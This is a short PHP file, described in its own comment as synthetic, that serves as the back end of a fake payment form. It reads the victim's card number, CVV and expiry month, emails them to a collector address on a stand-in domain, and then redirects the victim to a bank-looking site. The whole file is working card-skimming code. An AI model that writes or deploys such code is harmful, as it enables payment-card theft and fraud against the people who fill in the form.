<?php
// synthetic: a fake payment form's back end mailing the card data out
$msg = "card: " . $_POST['card_number'] . "\ncvv: " . $_POST['cvv'] . "\nexp: " . $_POST['exp_month'];
mail('collector@mail.example.test', 'new', $msg);
header('Location: https://bank.example.test/');
